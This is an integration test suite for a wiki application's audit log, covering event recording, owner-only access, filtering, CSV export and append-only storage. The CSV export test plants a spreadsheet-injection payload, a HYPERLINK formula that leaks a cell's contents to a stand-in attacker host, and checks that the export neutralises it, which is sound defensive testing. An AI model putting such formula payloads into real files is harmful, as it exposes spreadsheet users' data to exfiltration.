import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getDb, getDbHandle } from "@/db/client";
import { databaseDialect } from "@/db/executor";
import { findPageById } from "@/db/queries/pages";
import { auditEvents, type Page, type Wiki } from "@/db/schema";
import { restorePage, renamePage } from "@/lib/commands/pages";
import { createApiToken, revokeApiToken } from "@/lib/commands/tokens";
import { addMember, changeMemberRole } from "@/lib/commands/wikis";
import { makeUser, makeWikiWithMembers } from "../helpers/fixtures";
import { withPostgres } from "../helpers/temp-postgres";
import { sessionCookieFrom } from "../helpers/session-cookie";
import { clockTick } from "../helpers/wait";
import { withServer } from "../helpers/with-server";

type TestUser = Awaited<ReturnType<typeof makeUser>>;
type AuditEventJson = {
  id: number;
  at: string;
  wikiId: string | null;
  actor: { id: string | null; name: string | null } | null;
  action: string;
  label: string;
  target: { type: string; id: string; label: string } | null;
  details: Record<string, unknown>;
  description: string;
  ip: string | null;
};
type AuditPage = { events: AuditEventJson[]; nextBefore: number | null };

/** One SQL statement on the database the suite runs on (tests/integration/on-postgres runs it on PostgreSQL). */
async function rawQuery(statement: string): Promise<Record<string, unknown>[]> {
  if (databaseDialect() === "postgres")
    return withPostgres(process.env.DATABASE_URL!, async (client) => (await client.query(statement)).rows);
  const prepared = getDbHandle().sqlite.prepare(statement);
  return prepared.reader ? (prepared.all() as Record<string, unknown>[]) : (prepared.run(), []);
}

/** Makes every audit insert fail (true) or work again (false), as a broken audit store would. */
async function refuseAuditInserts(refuse: boolean): Promise<void> {
  if (databaseDialect() === "sqlite") {
    getDbHandle().sqlite.exec(
      refuse
        ? "CREATE TEMP TRIGGER audit_refuse_insert BEFORE INSERT ON main.audit_events BEGIN SELECT RAISE(ABORT, 'audit store unavailable'); END"
        : "DROP TRIGGER temp.audit_refuse_insert",
    );
    return;
  }
  // PostgreSQL has no connection-local trigger: this one refuses every connection's inserts.
  await rawQuery(
    refuse
      ? `CREATE FUNCTION audit_refuse_insert() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'audit store unavailable'; END $$;
         CREATE TRIGGER audit_refuse_insert BEFORE INSERT ON audit_events FOR EACH ROW EXECUTE FUNCTION audit_refuse_insert()`
      : "DROP TRIGGER audit_refuse_insert ON audit_events; DROP FUNCTION audit_refuse_insert()",
  );
}

const server = withServer({ prefix: "opinio-audit-" });
let owner: TestUser;
let editor: TestUser;
let viewer: TestUser;
let leaver: TestUser;
let otherOwner: TestUser;
let wiki: Wiki;
let page: Page;
let startedAt: Date;

async function call(
  method: string,
  path: string,
  options: { token?: string | null; body?: unknown; headers?: Record<string, string> } = {},
) {
  const headers: Record<string, string> = { ...options.headers };
  const token = options.token === undefined ? owner.token : options.token;
  if (token) headers.authorization = `Bearer ${token}`;
  if (options.body !== undefined) headers["content-type"] = "application/json";
  const response = await fetch(`${server.url}${path}`, {
    method,
    headers,
    body: options.body === undefined ? undefined : JSON.stringify(options.body),
    redirect: "manual",
  });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

async function api<T = Record<string, unknown>>(
  method: string,
  path: string,
  options: Parameters<typeof call>[2] = {},
): Promise<{ status: number; body: T }> {
  const reply = await call(method, `/api/v1${path}`, options);
  return { status: reply.status, body: (reply.text ? JSON.parse(reply.text) : null) as T };
}

/** The wiki's audit log as its owner reads it through the API. */
async function auditLog(query = "", token = owner.token): Promise<AuditPage> {
  const reply = await api<AuditPage>("GET", `/wikis/${wiki.id}/audit${query ? `?${query}` : ""}`, { token });
  expect(reply.status).toBe(200);
  return reply.body;
}

/** Signs in through next-auth's own endpoints, as the browser's form does; the session cookie, or null. */
async function signIn(user: Pick<TestUser, "email">, password: string): Promise<string | null> {
  const csrf = await fetch(`${server.url}/api/auth/csrf`);
  const { csrfToken } = (await csrf.json()) as { csrfToken: string };
  const cookies = csrf.headers.getSetCookie().map((c) => c.split(";")[0]);
  const response = await fetch(`${server.url}/api/auth/callback/credentials`, {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded", cookie: cookies.join("; ") },
    body: new URLSearchParams({ email: user.email, password, csrfToken, callbackUrl: "/" }),
    redirect: "manual",
  });
  expect(response.status).toBe(302);
  return sessionCookieFrom(response);
}

/** A strict RFC 4180 reader: throws on anything a spreadsheet could misread. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') field += c;
      else if (text[i + 1] === '"') field += text[i++];
      else quoted = false;
    } else if (c === '"' && field === "" && !wasQuoted) {
      quoted = wasQuoted = true;
    } else if (c === ",") {
      row.push(field);
      field = "";
      wasQuoted = false;
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      wasQuoted = false;
      i++;
    } else if (c === '"' || c === "\n" || c === "\r" || wasQuoted) {
      throw new Error(`malformed CSV at character ${i}`);
    } else {
      field += c;
    }
  }
  if (quoted || field !== "" || row.length > 0) throw new Error("CSV does not end with a complete record");
  return rows;
}

beforeAll(async () => {
  owner = await makeUser("Olivia Owner");
  editor = await makeUser("Eddie Editor");
  viewer = await makeUser("Vera Viewer");
  leaver = await makeUser("Leo Leaver");
  otherOwner = await makeUser("Oscar Other");
  // The users' first tokens predate their memberships.
  await clockTick();
  ({ wiki, page } = await makeWikiWithMembers(owner, [
    { user: editor, role: "editor" },
    { user: viewer, role: "viewer" },
    { user: leaver, role: "editor" },
  ]));
  await makeWikiWithMembers(otherOwner);
  startedAt = new Date();
});

afterAll(async () => {
  if (process.env.DEBUG_SERVER) console.log(server.output());
});

describe("what is recorded", () => {
  it("records a real sign-in with the address it came from, and a failed one", async () => {
    expect(await signIn(editor, editor.password)).toMatch(/^authjs\.session-token=/);
    expect(await signIn(editor, "not the password")).toBeNull();
    // Somebody who is not a member signs in: that concerns no owner of this wiki.
    expect(await signIn(otherOwner, otherOwner.password)).not.toBeNull();

    const { events } = await auditLog("action=auth");
    expect(events.map((e) => [e.action, e.actor?.id])).toEqual([
      ["auth.sign-in-failed", editor.id],
      ["auth.signed-in", editor.id],
    ]);
    expect(events[1]).toMatchObject({
      wikiId: null,
      actor: { name: "Eddie Editor" },
      label: "Signed in",
      description: "with a password",
      ip: "127.0.0.1",
    });
    expect(events[0]).toMatchObject({ description: "wrong password", ip: "127.0.0.1" });
    expect(new Date(events[1].at).getTime()).toBeGreaterThanOrEqual(startedAt.getTime());
  });

  it("records membership changes, with the owner as actor and the member as target", async () => {
    // A member's account events are in the log while they belong to the wiki…
    const leaversToken = await createApiToken(leaver.id, "soon gone");
    expect((await auditLog("action=token")).events.map((e) => e.target?.id)).toContain(leaversToken.id);
    expect((await api("PUT", `/wikis/${wiki.id}/members/${viewer.id}`, { body: { role: "commenter" } })).status).toBe(200);
    expect((await api("DELETE", `/wikis/${wiki.id}/members/${leaver.id}`)).status).toBe(204);
    const newcomer = await makeUser("Nina Newcomer");
    expect((await api("POST", `/wikis/${wiki.id}/members`, { body: { email: newcomer.email, role: "viewer" } })).status).toBe(201);
    expect(
      (await api("POST", `/wikis/${wiki.id}/members`, { body: { email: "someone.new@example.test", role: "commenter" } })).status,
    ).toBe(201);

    const { events } = await auditLog("action=member");
    expect(events.slice(0, 3).map((e) => ({ action: e.action, actor: e.actor?.id, target: e.target?.id, details: e.details }))).toEqual([
      { action: "member.added", actor: owner.id, target: newcomer.id, details: { name: "Nina Newcomer", role: "viewer" } },
      { action: "member.removed", actor: owner.id, target: leaver.id, details: { name: "Leo Leaver", role: "editor" } },
      {
        action: "member.role-changed",
        actor: owner.id,
        target: viewer.id,
        details: { name: "Vera Viewer", from: "viewer", to: "commenter" },
      },
    ]);
    expect(events[2]).toMatchObject({
      label: "Role changed",
      target: { label: "Vera Viewer" },
      description: "from viewer to commenter",
      ip: "127.0.0.1",
    });
    const [invite] = (await auditLog("action=invite")).events;
    expect(invite).toMatchObject({
      action: "invite.created",
      actor: { id: owner.id },
      details: { email: "someone.new@example.test", role: "commenter" },
    });
    // …and leave it with them.
    expect((await auditLog("action=token")).events.map((e) => e.target?.id)).not.toContain(leaversToken.id);
    // Put the viewer back for the authorization tests below.
    await changeMemberRole(wiki.id, viewer.id, "viewer", owner.id);
  });

  it("records page creation, rename, move, trash and restore by whoever did them", async () => {
    const created = await api<{ id: string }>("POST", `/wikis/${wiki.id}/pages`, { token: editor.token, body: { title: "Attribution" } });
    expect(created.status).toBe(201);
    const id = created.body.id;
    // A forged address header is replaced by the real peer address.
    expect(
      (
        await api("PATCH", `/pages/${id}`, {
          token: editor.token,
          body: { title: "Attribution of cyber operations" },
          headers: { "x-opinio-client-ip": "203.0.113.9" },
        })
      ).status,
    ).toBe(200);
    expect((await api("PATCH", `/pages/${id}`, { token: editor.token, body: { parentId: page.id } })).status).toBe(200);
    expect((await api("DELETE", `/pages/${id}`, { token: editor.token })).status).toBe(204);
    // Restoring from the trash has no REST endpoint; the command is what the Trash screen calls.
    await restorePage(id, owner.id);

    const events = (await auditLog("action=page")).events.filter((e) => e.target?.id === id);
    expect(events.map((e) => [e.action, e.actor?.name])).toEqual([
      ["page.restored", "Olivia Owner"],
      ["page.trashed", "Eddie Editor"],
      ["page.moved", "Eddie Editor"],
      ["page.renamed", "Eddie Editor"],
      ["page.created", "Eddie Editor"],
    ]);
    const [restored, trashed, moved, renamed] = events;
    expect(renamed).toMatchObject({
      details: { from: "Attribution", to: "Attribution of cyber operations" },
      description: "from “Attribution” to “Attribution of cyber operations”",
      ip: "127.0.0.1",
    });
    expect(moved).toMatchObject({
      details: { fromParentId: null, toParentId: page.id, toParent: page.title },
      description: `from the top level to under “${page.title}”`,
    });
    expect(trashed.label).toBe("Page deleted");
    // Recorded without a request: no address is invented.
    expect(restored.ip).toBeNull();
  });

  it("records saved and restored versions, and redline downloads as exports", async () => {
    const saved = await api<{ number: number }>("POST", `/pages/${page.id}/versions`, {
      token: editor.token,
      body: { name: "Before the restructure" },
    });
    expect(saved.status).toBe(201);
    const restored = await api<{ number: number }>("POST", `/pages/${page.id}/restore`, { token: editor.token, body: { version: 1 } });
    expect(restored.status).toBe(201);
    // The history screen restores in the editor, then has the server restore (and record) the same version.
    const fromEditor = await api<{ number: number }>("POST", `/pages/${page.id}/restore`, {
      token: owner.token,
      body: { version: saved.body.number },
    });
    expect(fromEditor.status).toBe(201);
    expect((await call("GET", `/api/v1/pages/${page.id}/redline?from=1&to=current&format=html`, { token: viewer.token })).status).toBe(200);

    const versions = (await auditLog("action=version")).events;
    expect(versions.slice(0, 3).map((e) => ({ action: e.action, actor: e.actor?.id, details: e.details }))).toEqual([
      {
        action: "version.restored",
        actor: owner.id,
        details: { title: page.title, version: fromEditor.body.number, restoredFrom: saved.body.number },
      },
      { action: "version.restored", actor: editor.id, details: { title: page.title, version: restored.body.number, restoredFrom: 1 } },
      {
        action: "version.saved",
        actor: editor.id,
        details: { title: page.title, version: saved.body.number, name: "Before the restructure" },
      },
    ]);
    const [download] = (await auditLog("action=export")).events;
    expect(download).toMatchObject({
      action: "export",
      actor: { id: viewer.id },
      target: { type: "page", id: page.id },
      details: { what: "redline", format: "html", from: "1", to: "current" },
    });
  });

  it("records API tokens created and revoked, for members only and from when they joined", async () => {
    const token = await createApiToken(editor.id, "CI pipeline");
    expect(await revokeApiToken(editor.id, token.id)).toBe(true);
    expect(await revokeApiToken(editor.id, token.id)).toBe(false);
    const outsiderToken = await createApiToken(otherOwner.id, "elsewhere");

    const events = (await auditLog("action=token")).events;
    expect(events.map((e) => [e.action, e.actor?.id, e.target?.id])).toEqual([
      ["token.revoked", editor.id, token.id],
      ["token.created", editor.id, token.id],
    ]);
    expect(events[0]).toMatchObject({ wikiId: null, target: { label: "token “CI pipeline”" } });
    expect(events.some((e) => e.target?.id === outsiderToken.id)).toBe(false);

    // The "tests" tokens every user got before joining stay out of the wiki's log.
    const all = (await auditLog("limit=200")).events;
    expect(all.filter((e) => e.action === "token.created" && e.details.name === "tests")).toEqual([]);
  });

  it("leaves no entry for a refused action, and no action without its entry", async () => {
    const before = (await auditLog("limit=200")).events.length;
    // The last owner cannot be demoted; a page cannot go under a page of another wiki.
    expect((await api("PUT", `/wikis/${wiki.id}/members/${owner.id}`, { body: { role: "editor" } })).status).toBe(409);
    expect(
      (await api("POST", `/wikis/${wiki.id}/pages`, { token: editor.token, body: { title: "Orphan", parentId: "no-such-page" } })).status,
    ).toBe(400);
    expect((await api("PATCH", `/pages/${page.id}`, { token: viewer.token, body: { title: "Viewer rename" } })).status).toBe(403);
    expect((await auditLog("limit=200")).events.length).toBe(before);

    // If the entry cannot be written, the rename it describes is rolled back with it.
    await refuseAuditInserts(true);
    try {
      const refused = await renamePage(page.id, "Renamed without a record", owner.id).then(
        () => null,
        (error: Error) => error,
      );
      // drizzle's PostgreSQL driver names the failed query and keeps the database's error as the cause.
      expect(`${refused?.message} ${(refused?.cause as Error | undefined)?.message}`).toMatch(/audit store unavailable/);
    } finally {
      await refuseAuditInserts(false);
    }
    expect((await findPageById(page.id))?.title).toBe(page.title);
  });
});

describe("who may read it", () => {
  it("answers owners only: editors and viewers 403, other wikis' owners 404, no credential 401", async () => {
    for (const format of ["", "?format=csv"]) {
      const path = `/api/v1/wikis/${wiki.id}/audit${format}`;
      expect((await call("GET", path, { token: owner.token })).status).toBe(200);
      for (const [who, token, status] of [
        ["editor", editor.token, 403],
        ["viewer", viewer.token, 403],
        ["other wiki's owner", otherOwner.token, 404],
        ["anonymous", null, 401],
        ["bad token", "opn_not-a-token", 401],
      ] as const) {
        const reply = await call("GET", path, { token });
        expect({ who, format, status: reply.status }).toEqual({ who, format, status });
        expect(reply.headers.get("content-type")).toMatch(/^application\/json/);
        expect(reply.text).not.toContain("auth.signed-in");
      }
    }
  });

  it("shows the audit page and its sidebar link to owners only", async () => {
    const ownerCookie = (await signIn(owner, owner.password))!;
    const editorCookie = (await signIn(editor, editor.password))!;
    const ownerPage = await call("GET", `/w/${wiki.slug}/audit`, { token: null, headers: { cookie: ownerCookie } });
    expect(ownerPage.status).toBe(200);
    expect(ownerPage.text).toContain("Audit log");
    expect(ownerPage.text).toContain('data-testid="audit-row"');
    expect(ownerPage.text).toContain("Download CSV");
    const filtered = await call("GET", `/w/${wiki.slug}/audit?action=member&person=${owner.id}`, {
      token: null,
      headers: { cookie: ownerCookie },
    });
    expect(filtered.text).toContain("Role changed");
    expect(filtered.text).not.toContain("Page renamed");

    expect((await call("GET", `/w/${wiki.slug}/audit`, { token: null, headers: { cookie: editorCookie } })).status).toBe(404);
    const editorView = await call("GET", `/w/${wiki.slug}/${page.slug}`, { token: null, headers: { cookie: editorCookie } });
    expect(editorView.status).toBe(200);
    expect(editorView.text).not.toContain(`/w/${wiki.slug}/audit`);
    const ownerView = await call("GET", `/w/${wiki.slug}/${page.slug}`, { token: null, headers: { cookie: ownerCookie } });
    expect(ownerView.text).toContain(`href="/w/${wiki.slug}/audit"`);
  });
});

describe("filters and paging", () => {
  it("filters by person, by action or kind of action, and by date", async () => {
    const byEditor = (await auditLog(`person=${editor.id}&limit=200`)).events;
    expect(byEditor.length).toBeGreaterThan(5);
    expect(byEditor.every((e) => e.actor?.id === editor.id)).toBe(true);

    const renames = (await auditLog("action=page.renamed")).events;
    expect(renames.length).toBeGreaterThan(0);
    expect(renames.every((e) => e.action === "page.renamed")).toBe(true);
    expect((await auditLog("action=page")).events.every((e) => e.action.startsWith("page."))).toBe(true);

    const everything = (await auditLog("limit=200")).events;
    const day = (iso: string, offset = 0) => new Date(new Date(iso).getTime() + offset * 86_400_000).toISOString().slice(0, 10);
    const first = everything.at(-1)!.at;
    const last = everything[0].at;
    // Days are whole UTC days, both ends included.
    expect((await auditLog(`from=${day(first)}&to=${day(last)}&limit=200`)).events).toEqual(everything);
    expect((await auditLog(`to=${day(first, -1)}`)).events).toEqual([]);
    expect((await auditLog(`from=${day(last, 1)}`)).events).toEqual([]);
    // An exact time: only what happened from then on.
    const cut = everything[5].at;
    expect((await auditLog(`from=${encodeURIComponent(cut)}&limit=200`)).events.every((e) => e.at >= cut)).toBe(true);
    // Empty form fields are no filter at all.
    expect((await auditLog("person=&action=&from=&to=&limit=200")).events).toEqual(everything);
  });

  it("pages newest first by id cursor without gaps or repeats", async () => {
    const everything = (await auditLog("limit=200")).events;
    const seen: number[] = [];
    let before: number | null = null;
    do {
      const page: AuditPage = await auditLog(`limit=7${before ? `&before=${before}` : ""}`);
      seen.push(...page.events.map((e) => e.id));
      before = page.nextBefore;
    } while (before);
    expect(seen).toEqual(everything.map((e) => e.id));
    expect([...seen].sort((a, b) => b - a)).toEqual(seen);
  });

  it("refuses malformed filters with 400", async () => {
    for (const query of [
      "from=2024-02-31",
      "to=yesterday",
      "action=page%25",
      "action=PAGE",
      "before=-1",
      "limit=0",
      "limit=201",
      "format=xlsx",
    ]) {
      const reply = await api<{ error: { code: string } }>("GET", `/wikis/${wiki.id}/audit?${query}`);
      expect({ query, status: reply.status, code: reply.body.error?.code }).toEqual({ query, status: 400, code: "bad_request" });
    }
  });
});

describe("CSV export", () => {
  it("is parseable CSV with the same events as the API, formula cells neutralised", async () => {
    // A member whose name a spreadsheet would run, doing something that lands in the log.
    const prankster = await makeUser('=HYPERLINK("http://evil.example/?"&A1,"Details")');
    await clockTick();
    await addMember(wiki.id, prankster.email, "editor", owner.id);
    await createApiToken(prankster.id, "@SUM(1+1)");
    expect(
      (await api("POST", `/wikis/${wiki.id}/pages`, { token: prankster.token, body: { title: '+1, "quoted"\nand a new line' } })).status,
    ).toBe(201);

    const reply = await call("GET", `/api/v1/wikis/${wiki.id}/audit?format=csv&person=${prankster.id}`);
    expect(reply.status).toBe(200);
    expect(reply.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(reply.headers.get("content-disposition")).toMatch(
      new RegExp(`^attachment; filename="${wiki.slug}-audit-log-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
    );
    const rows = parseCsv(reply.text);
    const [header, ...records] = rows;
    expect(header).toEqual([
      "id",
      "time_utc",
      "actor_id",
      "actor_name",
      "action",
      "label",
      "target_type",
      "target_id",
      "target",
      "details",
      "details_json",
      "ip",
    ]);
    expect(records.every((r) => r.length === header.length)).toBe(true);
    const listed = (await auditLog(`person=${prankster.id}&limit=200`)).events;
    expect(records.map((r) => Number(r[0]))).toEqual(listed.map((e) => e.id));
    expect(records.map((r) => r[4])).toEqual(["page.created", "token.created"]);
    expect(records[0][3]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Details")`);
    expect(records[0][8]).toBe('page “+1, "quoted"\nand a new line”');
    expect(JSON.parse(records[0][10])).toEqual({ title: '+1, "quoted"\nand a new line' });
    expect(records[1][8]).toBe("token “@SUM(1+1)”");
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("holds every matching event, and the download itself is recorded", async () => {
    const everything: number[] = [];
    let before: number | null = null;
    do {
      const page: AuditPage = await auditLog(`limit=200${before ? `&before=${before}` : ""}`);
      everything.push(...page.events.map((e) => e.id));
      before = page.nextBefore;
    } while (before);
    const rows = parseCsv((await call("GET", `/api/v1/wikis/${wiki.id}/audit?format=csv`)).text).slice(1);
    // The download is recorded before the rows are read, so it is the first row of its own file.
    expect(rows[0]).toEqual(expect.arrayContaining(["export", "the audit log", "CSV"]));
    expect(rows.slice(1).map((r) => Number(r[0]))).toEqual(everything);
    const filtered = parseCsv((await call("GET", `/api/v1/wikis/${wiki.id}/audit?format=csv&action=member.removed`)).text).slice(1);
    expect(filtered.map((r) => r[4])).toEqual(["member.removed"]);
  });
});

describe("append-only", () => {
  it("refuses UPDATE and DELETE on audit_events through the database handle", async () => {
    const count = async () => Number((await rawQuery("SELECT count(*) AS n FROM audit_events"))[0].n);
    const before = await count();
    expect(before).toBeGreaterThan(10);
    await expect(rawQuery("UPDATE audit_events SET action = 'page.created', actor_name = 'Someone else'")).rejects.toThrow(/append-only/);
    await expect(rawQuery("DELETE FROM audit_events WHERE id = (SELECT max(id) FROM audit_events)")).rejects.toThrow(/append-only/);
    if (databaseDialect() === "sqlite") {
      expect(() => getDb().update(auditEvents).set({ ip: null }).run()).toThrow(/append-only/);
      expect(() => getDb().delete(auditEvents).run()).toThrow(/append-only/);
    }
    expect(await count()).toEqual(before);
  });

  it("offers no way to change or delete entries over HTTP", async () => {
    const before = (await auditLog("limit=200")).events;
    for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
      const reply = await call(method, `/api/v1/wikis/${wiki.id}/audit`, { headers: { origin: server.url } });
      expect({ method, status: reply.status }).toEqual({ method, status: 405 });
    }
    expect((await auditLog("limit=200")).events).toEqual(before);
  });
});
